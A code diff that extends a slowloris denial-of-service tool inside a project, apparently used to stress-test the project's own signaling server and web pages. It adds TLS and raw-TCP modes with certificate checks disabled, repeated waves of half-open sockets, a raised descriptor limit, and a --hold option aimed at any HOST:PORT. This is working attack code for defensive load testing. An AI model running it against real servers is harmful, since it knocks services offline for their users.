@@ -5,6 +5,11 @@ legitimate expert and follower take to join a room meanwhile.
     python -m humantele.signaling.slowloris --sockets 300 --sources 30 [--fd-limit 256]
     python -m humantele.signaling.slowloris --url ws://host:port/ws   # a running server
                                                                        # (token: $HUMANTELE_TOKEN)
+    python -m humantele.signaling.slowloris --hold 127.0.0.1:8766 --mode tls --sockets 600 \
+        --sources 200 --seconds 20        # only hold sockets against a page (http, tls, tcp)
+
+:func:`hold_sockets` holds them against any HTTP server, also over TLS (the daemons' pages:
+tests/web/test_pages_slowloris.py).
 
 Without ``--url`` it starts ``humantele signal`` in a child process on a free loopback port with
 a random token (``--fd-limit`` lowers the child's descriptor limit, as in a small container)
@@ -21,6 +26,7 @@ import json
 import os
 import resource
 import secrets
+import ssl
 import subprocess
 import sys
 import tempfile
@@ -62,25 +68,45 @@ class HeldSockets:
         await asyncio.gather(*self._tasks, return_exceptions=True)
 
 
+def _client_tls() -> ssl.SSLContext:
+    """A client TLS context that takes any certificate (the attacker does not care)."""
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+
+
 async def _hold_one(
-    held: HeldSockets, host: str, port: int, source: str, interval_s: float
+    held: HeldSockets,
+    host: str,
+    port: int,
+    source: str,
+    interval_s: float,
+    mode: str = "http",
+    request: bytes = PARTIAL_REQUEST,
 ) -> None:
+    tls = _client_tls() if mode == "tls" else None
     try:
-        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
-    except OSError:
+        reader, writer = await asyncio.open_connection(
+            host, port, local_addr=(source, 0), ssl=tls,
+            ssl_handshake_timeout=30.0 if tls else None,
+        )  # fmt: skip
+    except (OSError, ssl.SSLError, TimeoutError):
         held.failed += 1
         return
     held.opened += 1
     try:
-        writer.write(PARTIAL_REQUEST)
+        if mode != "tcp":  # "tcp": connect and say nothing (not even a TLS ClientHello)
+            writer.write(request)
         while True:
             # a closed (or reset) connection ends the read; otherwise trickle one more line
             with contextlib.suppress(TimeoutError):
                 if not await asyncio.wait_for(reader.read(1024), interval_s):
                     break
-            writer.write(TRICKLE)
-            await writer.drain()
-    except OSError:
+            if mode != "tcp":
+                writer.write(TRICKLE)
+                await writer.drain()
+    except (OSError, ssl.SSLError):
         pass
     finally:
         writer.close()
@@ -88,14 +114,26 @@ async def _hold_one(
 
 
 async def hold_sockets(
-    host: str, port: int, n: int, *, sources: int = 1, interval_s: float = 5.0
+    host: str,
+    port: int,
+    n: int,
+    *,
+    sources: int = 1,
+    interval_s: float = 5.0,
+    mode: str = "http",
+    request: bytes = PARTIAL_REQUEST,
 ) -> HeldSockets:
     """Open ``n`` half-open connections from ``sources`` loopback addresses; return once every
-    connection attempt has been made (they stay held until :meth:`HeldSockets.close`)."""
+    connection attempt has been made (they stay held until :meth:`HeldSockets.close`).
+    ``mode``: ``http`` (a partial request, one more header line every ``interval_s``),
+    ``tls`` (the same inside TLS: a page served over https), ``tcp`` (connect, send
+    nothing: against TLS, a handshake that never starts)."""
+    if mode not in ("http", "tls", "tcp"):
+        raise ValueError(f"mode {mode!r}: http, tls or tcp")
     held = HeldSockets()
     for i in range(n):
         task = asyncio.create_task(
-            _hold_one(held, host, port, source_address(i, sources), interval_s)
+            _hold_one(held, host, port, source_address(i, sources), interval_s, mode, request)
         )
         held._tasks.append(task)
     deadline = time.monotonic() + 30.0
@@ -177,13 +215,62 @@ def start_server(fd_limit: int | None, token: str, log: IO[str]) -> tuple[subpro
     return proc, line.rsplit(" ", 1)[1].strip()
 
 
+async def hold_waves(
+    host: str,
+    port: int,
+    n: int,
+    *,
+    sources: int,
+    mode: str,
+    seconds: float,
+    settle_s: float = 60.0,
+) -> dict[str, int]:
+    """A wave of ``n`` half-open sockets every second for ``seconds`` (those the server closed
+    are replaced, as an attacker would); then up to ``settle_s`` for the server to close the
+    rest. The counts: opened, failed (refused, reset in the TLS handshake), still open."""
+    end = time.monotonic() + seconds
+    waves: list[HeldSockets] = []
+    while time.monotonic() < end:
+        waves.append(await hold_sockets(host, port, n, sources=sources, mode=mode))
+        await asyncio.sleep(1.0)
+    settle = time.monotonic() + settle_s
+    while any(w.open for w in waves) and time.monotonic() < settle:
+        await asyncio.sleep(0.2)
+    result = {
+        "waves": len(waves),
+        "opened": sum(w.opened for w in waves),
+        "failed": sum(w.failed for w in waves),
+        "still_open": sum(w.open for w in waves),
+    }
+    for w in waves:
+        await w.close()
+    return result
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m humantele.signaling.slowloris")
     parser.add_argument("--url", help="attack a running server (token from $HUMANTELE_TOKEN)")
+    parser.add_argument(
+        "--hold", metavar="HOST:PORT",
+        help="only hold waves of half-open sockets against any HTTP(S) server (a page) for "
+        "--seconds; prints what the server closed",
+    )  # fmt: skip
+    parser.add_argument("--mode", default="http", choices=("http", "tls", "tcp"))
+    parser.add_argument("--seconds", type=float, default=20.0)
     parser.add_argument("--sockets", type=int, default=300)
     parser.add_argument("--sources", type=int, default=1, help="loopback source addresses")
     parser.add_argument("--fd-limit", type=int, help="descriptor limit of the child server")
     args = parser.parse_args(argv)
+    if args.hold:
+        host, _, port = args.hold.rpartition(":")
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker's own sockets
+        result = asyncio.run(
+            hold_waves(host, int(port), args.sockets, sources=args.sources, mode=args.mode,
+                       seconds=args.seconds)
+        )  # fmt: skip
+        print(json.dumps(result))
+        return 0
     if args.url:
         token = os.environ.get(TOKEN_ENV, "")
         result = asyncio.run(measure(args.url, token, sockets=args.sockets, sources=args.sources))
